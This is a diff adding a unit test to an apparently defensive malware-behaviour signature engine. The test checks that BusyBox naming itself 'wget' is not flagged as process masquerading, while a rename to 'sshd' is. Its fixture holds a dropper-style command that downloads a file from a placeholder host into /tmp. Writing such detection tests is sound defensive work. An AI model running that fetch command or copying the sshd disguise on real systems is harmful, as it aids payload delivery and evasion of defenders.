@@ -82,6 +82,24 @@ TEST(Signatures, DnsToUnconfiguredResolverOnly) {
     EXPECT_NO_THROW((void)report.toJson().dump()); // hostile bytes never break serialisation
 }
 
+TEST(Signatures, BusyBoxNamingAnAppletIsNotMasquerading) {
+    // A dropped script's `wget`: BusyBox re-executes /proc/self/exe as "wget" and sets its name to it.
+    BehaviourReport report;
+    Observation& o = report.behaviour;
+    ProcessRecord wget{.pid = 7, .parent = 6, .origin = "fork"};
+    wget.execs.push_back({.path = "/proc/self/exe", .argv = {"wget", "http://192.0.2.7/x", "-O", "/tmp/y"}});
+    o.processes.push_back(wget);
+    o.renames.push_back({.pid = 7, .kind = "prctl", .from = "exe", .to = "wget"});
+    applySignatures(report);
+    EXPECT_EQ(findHit(report, "process_masquerading"), nullptr);
+    // The same process naming itself after something else is.
+    o.renames.push_back({.pid = 7, .kind = "prctl", .from = "wget", .to = "sshd"});
+    report.signatures.clear();
+    applySignatures(report);
+    ASSERT_NE(findHit(report, "process_masquerading"), nullptr);
+    EXPECT_EQ(findHit(report, "process_masquerading")->evidence["renames"].size(), 1u);
+}
+
 TEST(Signatures, MiraiStartUpIsMalicious) {
     BehaviourReport report;
     Observation& o = report.behaviour;
